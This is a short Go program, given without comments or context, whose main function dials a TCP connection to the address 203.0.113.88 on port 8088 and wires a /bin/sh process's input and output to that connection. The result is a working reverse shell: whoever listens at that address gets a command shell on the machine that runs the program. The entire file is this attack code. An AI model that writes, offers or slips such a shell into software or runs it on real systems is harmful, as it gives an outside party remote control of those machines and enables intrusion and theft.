package main

import (
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "203.0.113.88:8088")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Run()
}
